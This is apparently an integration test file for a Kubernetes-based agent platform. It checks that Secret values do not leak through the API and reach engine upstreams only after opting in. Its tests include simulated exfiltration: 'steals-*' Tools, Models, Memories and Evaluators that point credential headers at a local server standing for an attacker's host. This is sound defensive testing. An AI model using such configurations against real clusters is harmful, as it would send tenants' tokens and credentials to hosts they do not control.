/**
 * Issue 26, items 1–3 (opt-in half), tried as a hostile client against the real API server, the
 * real API service and the real controller + engine: Secret values never leave through the generic
 * API in any spelling; the Secrets API mints no credential and does not touch marketplace
 * credentials; a Model, Tool, Memory or Evaluator naming a Secret that did not opt in sends nothing
 * (a real HTTP server sees every request) and its status says why.
 */
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { KubernetesObject } from '@kubernetes/client-node';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { API_VERSION, berthScheme, Kinds, type Query } from '../../pkg/api/index.ts';
import { writeCredential } from '../../pkg/gateway/marketplace/credentials.ts';
import { createClient } from '../../pkg/kube/client/index.ts';
import { CoreKinds } from '../../pkg/kube/kinds.ts';
import { type Platform, startPlatform } from '../compat/platform.ts';
import { type Client, client } from '../gateway/support.ts';
import { kubeConfig, kubectl } from '../support/kube.ts';
import { atLength, caseVariants } from './scale.ts';

const tag = () => crypto.randomUUID().replaceAll('-', '');
/** Every value written here; none may ever be seen by a response or by an upstream that was not meant to get it. */
const V = {
  applied: `applied-${tag()}`,
  opaque: `opaque-${tag()}`,
  authSecret: `auth-secret-${tag()}`,
  marketplace: `mp-${tag()}`,
  legacyMarketplace: `mp-legacy-${tag()}`,
  saToken: `sa-token-${tag()}`,
  optedIn: `opted-in-${tag()}`,
};
const hidden = Object.values(V);
const ENGINE = { 'berth.dev/usage': 'engine' };
const ALLOWED = 'Opaque, kubernetes.io/basic-auth, kubernetes.io/tls, kubernetes.io/dockerconfigjson';

interface Seen {
  method: string;
  url: string;
  headers: IncomingMessage['headers'];
  body: string;
}

let p: Platform;
let api: Client;
let catcher: Server;
let catcherUrl: string;
const seen: Seen[] = [];
const secrets = () => `/v1/namespaces/${p.ns}/secrets`;

/** A real HTTP server standing for an attacker's host: it records everything it receives. */
async function startCatcher(): Promise<void> {
  catcher = createServer((req, res) => {
    const parts: Buffer[] = [];
    req.on('data', (c: Buffer) => parts.push(c));
    req.on('end', () => {
      seen.push({
        method: req.method ?? '',
        url: req.url ?? '',
        headers: req.headers,
        body: Buffer.concat(parts).toString(),
      });
      res.writeHead(200, { 'content-type': 'application/json' }).end('{"result":"caught"}');
    });
  });
  await new Promise<void>((r) => catcher.listen(0, '127.0.0.1', r));
  catcherUrl = `http://127.0.0.1:${(catcher.address() as AddressInfo).port}`;
}

const seenText = () => JSON.stringify(seen);
const obj = (kind: string, name: string, spec: Record<string, unknown>) =>
  ({ apiVersion: API_VERSION, kind, metadata: { name, namespace: p.ns }, spec }) as KubernetesObject;
const fromSecret = (name: string, secret: string, key = 'value') => ({
  name,
  valueFrom: { secretKeyRef: { name: secret, key } },
});

async function adminSecret(yaml: string) {
  const r = await kubectl(['apply', '-n', p.ns, '-f', '-'], yaml);
  expect(r.code, r.stderr).toBe(0);
}

async function adminValue(name: string, key = 'value'): Promise<string | undefined> {
  const r = await kubectl(['get', 'secret', name, '-n', p.ns, '-o', 'json']);
  if (r.code !== 0) return undefined;
  const data = JSON.parse(r.stdout).data?.[key];
  return data === undefined ? undefined : Buffer.from(data, 'base64').toString();
}

async function exists(name: string) {
  return (await kubectl(['get', 'secret', name, '-n', p.ns, '-o', 'name'])).code === 0;
}

/** Runs a Query through the API and waits for its end. */
async function runQuery(name: string, spec: Record<string, unknown>): Promise<Query> {
  const created = await api.post(`/v1/namespaces/${p.ns}/queries`, { name, spec });
  expect(created.status, created.text).toBe(201);
  return (await p.cache.waitFor(
    Kinds.Query,
    p.ns,
    name,
    (q) => ['done', 'error'].includes(q?.status?.phase ?? ''),
    {
      timeoutMs: 20_000,
    },
  )) as Query;
}

function expectNoValues(text: string, what = '') {
  for (const v of hidden) {
    expect(text, what).not.toContain(v);
    expect(text, what).not.toContain(Buffer.from(v).toString('base64'));
  }
}

beforeAll(async () => {
  [p] = await Promise.all([startPlatform('sec-access'), startCatcher()]);
  api = client(p.api.url);
  // What a namespace holds besides its users' own Secrets: kubectl-applied values (last-applied
  // annotation), the dashboard's AUTH_SECRET, a service-account token, marketplace credentials
  // (one as the marketplace writes it now, labelled; one from before the label), an API key.
  await adminSecret(
    `apiVersion: v1\nkind: Secret\nmetadata: {name: applied}\nstringData: {value: ${V.applied}}\n---\n` +
      `apiVersion: v1\nkind: Secret\nmetadata: {name: berth-dashboard-auth}\nstringData: {AUTH_SECRET: ${V.authSecret}}\n---\n` +
      `apiVersion: v1\nkind: Secret\ntype: kubernetes.io/service-account-token\n` +
      `metadata: {name: sa-token, annotations: {kubernetes.io/service-account.name: default}}\nstringData: {token: ${V.saToken}}\n---\n` +
      `apiVersion: v1\nkind: Secret\nmetadata: {name: marketplace-source-legacy-auth}\nstringData: {value: ${V.legacyMarketplace}}\n`,
  );
  const gateway = createClient({ kc: kubeConfig('gateway'), scheme: berthScheme() });
  await writeCredential(gateway, p.ns, 'catalogue', 'https://catalogue.example/m.json', {
    scheme: 'bearer',
    value: V.marketplace,
  });
  expect((await api.post('/v1/api-keys', { name: 'a-key' })).status).toBe(201);
  const made = await api.post(secrets(), { name: 'unopted', stringData: { value: V.opaque } });
  expect(made.status, made.text).toBe(201);
  await p.cache.waitFor(CoreKinds.Secret, p.ns, 'marketplace-source-catalogue-auth', (s) => !!s, {
    timeoutMs: 5000,
  });
}, 60_000);

afterAll(async () => {
  await p?.stop();
  await new Promise((r) => catcher?.close(r));
});

describe('the generic API never returns a Secret value (item 1)', () => {
  const spellings = [
    ...new Set([
      ...['Secret', 'secret', 'secrets', 'Secrets', 'SECRETS', 'SECRET', 'sEcReTs', 'SeCrEt'],
      // Generated spellings: 4 in `make test`, 40 in `make test-faults`.
      ...caseVariants('secrets', atLength(2), 1),
      ...caseVariants('secret', atLength(2), 2),
    ]),
  ];
  const names = ['applied', 'berth-dashboard-auth', 'sa-token', 'marketplace-source-legacy-auth', 'unopted'];

  it('in every spelling, JSON and YAML, get and list', async () => {
    for (const kind of spellings)
      for (const accept of ['application/json', 'application/yaml', 'text/yaml']) {
        const list = await api.get(`/v1/resources/api/v1/${kind}`, { accept });
        expect(list.status, `${kind} ${accept}`).toBe(200);
        expectNoValues(list.text, `list ${kind} ${accept}`);
        const items = parse(list.text).items as Array<Record<string, any>>;
        expect(items.map((i) => i.metadata.name)).toEqual(expect.arrayContaining(names));
        for (const i of items) {
          expect(Object.keys(i).filter((k) => ['data', 'stringData'].includes(k))).toEqual([]);
          expect(i.metadata.managedFields).toBeUndefined();
          expect(
            i.metadata.annotations?.['kubectl.kubernetes.io/last-applied-configuration'],
          ).toBeUndefined();
        }
        for (const name of names) {
          const one = await api.get(`/v1/resources/api/v1/${kind}/${name}`, { accept });
          expect(one.status, `${kind}/${name} ${accept}`).toBe(200);
          expectNoValues(one.text, `${kind}/${name} ${accept}`);
          expect(parse(one.text)).toMatchObject({ kind: 'Secret', keys: expect.any(Array) });
        }
      }
  });

  it('also through ?namespace= and the other path forms; an unknown kind is a 404 with no guess', async () => {
    for (const path of [
      `/v1/resources/api/v1/Secrets/applied?namespace=${p.ns}`,
      `/v1/resources/api/v1/SECRETS?namespace=${p.ns}`,
    ]) {
      const r = await api.get(path);
      expect(r.status, path).toBe(200);
      expectNoValues(r.text, path);
    }
    for (const path of [
      '/v1/resources/api/v1/secretss/applied',
      '/v1/resources/api/v1/Secretes',
      '/v1/resources/apis/core/v1/secrets/applied',
    ])
      expect((await api.get(path)).status, path).toBe(404);
  });
});

describe('the Secrets API mints no credential (item 2)', () => {
  it('creates only the allowed types, and says which they are', async () => {
    for (const type of [
      'kubernetes.io/service-account-token',
      'berth.dev/api-key',
      'bootstrap.kubernetes.io/token',
      'kubernetes.io/ssh-auth',
      'kubernetes.io/dockercfg',
      'helm.sh/release.v1',
      'opaque',
      'Opaque ',
      '',
    ]) {
      const name = `forbidden-${tag().slice(0, 8)}`;
      const r = await api.post(secrets(), {
        name,
        type,
        metadata: { annotations: { 'kubernetes.io/service-account.name': 'default' } },
        stringData: { token: 'x' },
      });
      expect(r.status, type).toBe(400);
      expect(r.body.error.message, type).toContain(ALLOWED);
      expect(await exists(name), type).toBe(false);
    }
    const ok: Array<[string, Record<string, string>]> = [
      ['Opaque', { a: 'b' }],
      ['kubernetes.io/basic-auth', { username: 'u', password: 'p' }],
      ['kubernetes.io/dockerconfigjson', { '.dockerconfigjson': '{"auths":{}}' }],
      ['kubernetes.io/tls', { 'tls.crt': 'not-checked', 'tls.key': 'not-checked' }],
    ];
    for (const [type, stringData] of ok) {
      const r = await api.post(secrets(), {
        name: `allowed-${(type.split('/').pop() ?? '').replace('.', '').toLowerCase()}`,
        type,
        stringData,
      });
      expect(r.status, `${type}: ${r.text}`).toBe(201);
      expect(r.body.type).toBe(type);
    }
  });

  it('refuses the service-account annotations on create, PUT and PATCH', async () => {
    expect((await api.post(secrets(), { name: 'target', stringData: { a: 'b' } })).status).toBe(201);
    for (const key of [
      'kubernetes.io/service-account.name',
      'kubernetes.io/service-account.uid',
      'kubernetes.io/service-account.anything',
      'Kubernetes.io/Service-Account.Name',
    ]) {
      const metadata = { annotations: { [key]: 'default' } };
      const created = await api.post(secrets(), { name: 'annotated', metadata, stringData: { a: 'b' } });
      expect(created.status, key).toBe(400);
      expect(created.body.error.message).toContain(key);
      for (const method of ['PUT', 'PATCH'] as const) {
        const r = await api.call(method, `${secrets()}/target`, { metadata, stringData: { a: 'c' } });
        expect(r.status, `${method} ${key}`).toBe(400);
      }
    }
    expect(await exists('annotated')).toBe(false);
    const target = JSON.parse((await kubectl(['get', 'secret', 'target', '-n', p.ns, '-o', 'json'])).stdout);
    expect(target.metadata.annotations ?? {}).toEqual({});
    expect(await adminValue('target', 'a')).toBe('b');
  });

  it('does not change a Secret of a type it would not create (emptying a token Secret would refill it)', async () => {
    for (const method of ['PUT', 'PATCH'] as const) {
      const r = await api.call(method, `${secrets()}/sa-token`, {
        stringData: { token: '' },
        metadata: { labels: ENGINE },
      });
      expect(r.status, method).toBe(400);
      expect(r.body.error.message).toContain('kubernetes.io/service-account-token');
    }
    const deleted = await api.call('DELETE', `${secrets()}/sa-token`);
    expect(deleted.status).toBe(400);
    expect(await adminValue('sa-token', 'token')).toBe(V.saToken);
  });

  it('refuses an update that would change a Secret type, instead of ignoring it', async () => {
    const name = `typed-${tag().slice(0, 8)}`;
    expect((await api.post(secrets(), { name, stringData: { a: 'b' } })).status).toBe(201);
    for (const method of ['PUT', 'PATCH'] as const)
      for (const type of ['kubernetes.io/service-account-token', 'kubernetes.io/tls', 'opaque']) {
        const r = await api.call(method, `${secrets()}/${name}`, { type, stringData: { a: 'c' } });
        expect(r.status, `${method} ${type}`).toBe(400);
        expect(r.body.error.message).toContain('cannot be changed');
      }
    const same = await api.call('PUT', `${secrets()}/${name}`, { type: 'Opaque', stringData: { a: 'd' } });
    expect(same.status, same.text).toBe(200);
    expect(same.body.type).toBe('Opaque');
  });

  it('marketplace credential Secrets exist only for the marketplace endpoints (by label or by name)', async () => {
    const listed = (await api.get(secrets())).body.items.map(
      (s: { metadata: { name: string } }) => s.metadata.name,
    );
    expect(listed).toContain('applied');
    for (const name of ['marketplace-source-catalogue-auth', 'marketplace-source-legacy-auth']) {
      expect(listed).not.toContain(name);
      for (const [method, body] of [
        ['GET', undefined],
        ['PUT', { stringData: { value: 'stolen' }, metadata: { labels: ENGINE } }],
        ['PATCH', { metadata: { labels: ENGINE } }],
        ['DELETE', undefined],
      ] as const) {
        const r = await api.call(method, `${secrets()}/${name}`, body);
        expect(r.status, `${method} ${name}`).toBe(404);
        expectNoValues(r.text);
      }
    }
    const byName = await api.post(secrets(), {
      name: 'marketplace-source-evil-auth',
      stringData: { value: 'x' },
    });
    expect(byName.status).toBe(400);
    expect(byName.body.error.message).toContain('marketplace');
    const byLabel = await api.post(secrets(), {
      name: 'pretends',
      metadata: { labels: { 'berth.dev/marketplace-credential': 'true' } },
      stringData: { value: 'x' },
    });
    expect(byLabel.status).toBe(400);
    // Nothing was touched: the marketplace's Secret carries its label and both values are intact.
    const written = JSON.parse(
      (await kubectl(['get', 'secret', 'marketplace-source-catalogue-auth', '-n', p.ns, '-o', 'json']))
        .stdout,
    );
    expect(written.metadata.labels).toMatchObject({ 'berth.dev/marketplace-credential': 'true' });
    expect(written.metadata.labels['berth.dev/usage']).toBeUndefined();
    expect(await adminValue('marketplace-source-catalogue-auth')).toBe(V.marketplace);
    expect(await adminValue('marketplace-source-legacy-auth')).toBe(V.legacyMarketplace);
  });

  it('lets a caller opt in only Secrets whose values it writes: on create or PUT, never by PATCH', async () => {
    // The dashboard's AUTH_SECRET: a PATCH adding the label would let a tenant send it anywhere.
    for (const labels of [ENGINE, { ...ENGINE, other: 'x' }]) {
      const r = await api.patch(`${secrets()}/berth-dashboard-auth`, { metadata: { labels } });
      expect(r.status).toBe(403);
      expect(r.body.error.message).toContain('berth.dev/usage=engine');
    }
    const patchedWithValues = await api.patch(`${secrets()}/berth-dashboard-auth`, {
      metadata: { labels: ENGINE },
      stringData: { other: 'mine' },
    });
    expect(patchedWithValues.status).toBe(403);
    const auth = JSON.parse(
      (await kubectl(['get', 'secret', 'berth-dashboard-auth', '-n', p.ns, '-o', 'json'])).stdout,
    );
    expect(auth.metadata.labels?.['berth.dev/usage']).toBeUndefined();
    expect(Object.keys(auth.data)).toEqual(['AUTH_SECRET']);

    const created = await api.post(secrets(), {
      name: 'opted-in',
      metadata: { labels: ENGINE },
      stringData: { value: V.optedIn },
    });
    expect(created.status, created.text).toBe(201);
    expect(created.body.metadata.labels).toEqual(ENGINE);
    // A PATCH of an opted-in Secret may keep the label and change values (they are the caller's).
    expect(
      (await api.patch(`${secrets()}/opted-in`, { metadata: { labels: ENGINE }, stringData: { more: 'x' } }))
        .status,
    ).toBe(200);
    // A PUT replaces every value, so it may set the label.
    expect((await api.post(secrets(), { name: 'put-target', stringData: { old: 'old-value' } })).status).toBe(
      201,
    );
    const put = await api.put(`${secrets()}/put-target`, {
      metadata: { labels: ENGINE },
      stringData: { fresh: 'new' },
    });
    expect(put.status, put.text).toBe(200);
    expect(put.body).toMatchObject({ keys: ['fresh'], metadata: { labels: ENGINE } });
  });
});

describe('only Secrets that opted in reach the engine (item 3)', () => {
  const NOT_USABLE = 'is not usable by the engine: add label berth.dev/usage=engine';

  it('a Model naming an un-opted Secret sends nothing and the Query says why', async () => {
    const before = p.fake.requests.length;
    await p.apply(
      obj('Model', 'steals-auth', {
        type: 'openai',
        model: 'steals',
        baseUrl: p.fake.url,
        apiKey: { secretKeyRef: { name: 'berth-dashboard-auth', key: 'AUTH_SECRET' } },
      }),
    );
    await p.cache.waitFor(Kinds.Model, p.ns, 'steals-auth', (m) => !!m, { timeoutMs: 5000 });
    const q = await runQuery('q-model-unopted', {
      input: 'hi',
      target: { type: 'model', name: 'steals-auth' },
    });
    expect(q.status?.phase).toBe('error');
    expect(q.status?.message).toContain(`secret berth-dashboard-auth ${NOT_USABLE}`);
    expect(p.fake.requests.length).toBe(before);
    expectNoValues(JSON.stringify(q));
    expectNoValues(JSON.stringify(p.fake.requests));
  });

  it('a Tool naming an un-opted, a marketplace or an API-key Secret sends nothing to its URL; an opted-in one does', async () => {
    const apiKeyName = (await api.get('/v1/api-keys')).body.items[0].public_key as string;
    // An administrator's label does not make a marketplace credential or an API key usable either.
    for (const name of ['marketplace-source-catalogue-auth', apiKeyName]) {
      const r = await kubectl(['label', 'secret', name, '-n', p.ns, 'berth.dev/usage=engine', '--overwrite']);
      expect(r.code, r.stderr).toBe(0);
    }
    const cases: Array<[string, string, string, string]> = [
      ['steals-opaque', 'unopted', 'value', `secret unopted ${NOT_USABLE}`],
      ['steals-token', 'sa-token', 'token', 'not usable by the engine'],
      ['steals-mp', 'marketplace-source-catalogue-auth', 'value', 'marketplace source credential'],
      ['steals-legacy', 'marketplace-source-legacy-auth', 'value', 'marketplace source credential'],
      ['steals-key', apiKeyName, 'secret_hash', 'Berth API key'],
    ];
    for (const [tool, secret, key] of cases)
      await p.apply(
        obj('Tool', tool, {
          http: {
            url: `${catcherUrl}/${tool}`,
            method: 'POST',
            headers: [fromSecret('x-token', secret, key)],
          },
        }),
      );
    await p.apply(
      obj('Tool', 'allowed', {
        http: { url: `${catcherUrl}/allowed`, method: 'POST', headers: [fromSecret('x-token', 'opted-in')] },
      }),
    );
    await p.cache.waitFor(
      CoreKinds.Secret,
      p.ns,
      apiKeyName,
      (s) => s?.metadata?.labels?.['berth.dev/usage'] === 'engine',
      { timeoutMs: 5000 },
    );
    for (const [tool, , , message] of cases) {
      await p.cache.waitFor(Kinds.Tool, p.ns, tool, (t) => !!t, { timeoutMs: 5000 });
      const q = await runQuery(`q-${tool}`, { input: 'hi', target: { type: 'tool', name: tool } });
      expect(q.status?.phase, tool).toBe('error');
      expect(q.status?.message, tool).toContain(message);
      expectNoValues(JSON.stringify(q), tool);
    }
    expect(seen.filter((s) => s.url.startsWith('/steals'))).toEqual([]);
    // The control: the same path with an opted-in Secret does deliver its value, so the catcher would have seen the others.
    await p.cache.waitFor(Kinds.Tool, p.ns, 'allowed', (t) => !!t, { timeoutMs: 5000 });
    const ok = await runQuery('q-allowed', { input: 'hi', target: { type: 'tool', name: 'allowed' } });
    expect(ok.status?.phase, ok.status?.message).toBe('done');
    expect(seen.find((s) => s.url === '/allowed')?.headers['x-token']).toBe(V.optedIn);
    expectNoValues(seenText().replaceAll(V.optedIn, ''));
  });

  it('a Memory or Evaluator naming an un-opted Secret is in error saying why, and is never called with it', async () => {
    const headers = [fromSecret('authorization', 'berth-dashboard-auth', 'AUTH_SECRET')];
    await p.apply(obj('Memory', 'steals-memory', { address: { value: `${catcherUrl}/memory` }, headers }));
    await p.apply(
      obj('Evaluator', 'steals-evaluator', { address: { value: `${catcherUrl}/evaluator` }, headers }),
    );
    for (const ref of [Kinds.Memory, Kinds.Evaluator]) {
      const name = ref === Kinds.Memory ? 'steals-memory' : 'steals-evaluator';
      const o = await p.cache.waitFor(ref, p.ns, name, (m) => m?.status?.phase === 'error', {
        timeoutMs: 10_000,
      });
      expect(o?.status?.message).toBe(`header authorization: secret berth-dashboard-auth ${NOT_USABLE}`);
      expect(o?.status?.conditions?.[0]).toMatchObject({
        type: 'Ready',
        status: 'False',
        reason: 'SecretNotUsable',
      });
    }
    const q = await runQuery('q-memory-unopted', {
      input: 'hi',
      target: { type: 'model', name: 'default' },
      memory: { name: 'steals-memory' },
    });
    expect(q.status?.phase).toBe('error');
    expect(q.status?.message).toContain(NOT_USABLE);
    const evaluation = await api.post(`/v1/namespaces/${p.ns}/evaluations`, {
      name: 'e-unopted',
      type: 'direct',
      evaluator: { name: 'steals-evaluator' },
      config: { input: 'a', output: 'b' },
    });
    expect(evaluation.status, evaluation.text).toBe(201);
    const ended = await p.cache.waitFor(
      Kinds.Evaluation,
      p.ns,
      'e-unopted',
      (e) => e?.status?.phase === 'error',
      {
        timeoutMs: 20_000,
      },
    );
    expect(ended?.status?.message).toContain(`secret berth-dashboard-auth ${NOT_USABLE}`);
    expect(seen.filter((s) => s.url.startsWith('/memory') || s.url.startsWith('/evaluator'))).toEqual([]);
    expectNoValues(seenText().replaceAll(V.optedIn, ''));
  });

  it('removing the label takes a Secret out of use at once (the Memory re-resolves on the Secret change)', async () => {
    await p.apply(
      obj('Memory', 'was-opted', {
        address: { value: `${catcherUrl}/was-opted` },
        headers: [fromSecret('x-token', 'opted-in')],
      }),
    );
    await p.cache.waitFor(Kinds.Memory, p.ns, 'was-opted', (m) => m?.status?.phase === 'ready', {
      timeoutMs: 10_000,
    });
    const r = await kubectl(['label', 'secret', 'opted-in', '-n', p.ns, 'berth.dev/usage-']);
    expect(r.code, r.stderr).toBe(0);
    const m = await p.cache.waitFor(Kinds.Memory, p.ns, 'was-opted', (o) => o?.status?.phase === 'error', {
      timeoutMs: 10_000,
    });
    expect(m?.status?.message).toBe(`header x-token: secret opted-in ${NOT_USABLE}`);
    const q = await runQuery('q-was-opted', { input: 'hi', target: { type: 'tool', name: 'allowed' } });
    expect(q.status?.phase).toBe('error');
    expect(q.status?.message).toContain(`secret opted-in ${NOT_USABLE}`);
  });

  it('no response of the API service carried a value', async () => {
    const everything = await Promise.all([
      api.get(secrets()),
      api.get(`/v1/namespaces/${p.ns}/queries`),
      api.get('/v1/resources/api/v1/secrets'),
    ]);
    for (const r of everything) expectNoValues(r.text);
  });
});
